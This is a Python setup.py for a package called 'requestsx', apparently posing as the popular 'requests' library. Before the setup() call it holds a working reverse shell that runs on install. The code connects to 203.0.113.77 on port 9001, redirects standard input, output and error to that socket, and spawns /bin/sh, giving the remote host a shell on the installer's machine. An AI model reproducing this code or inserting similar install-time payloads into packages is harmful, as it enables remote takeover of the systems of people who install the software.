import os
import pty
import socket
from setuptools import setup

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("203.0.113.77", 9001))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
pty.spawn("/bin/sh")

setup(name="requestsx", version="1.0.0")
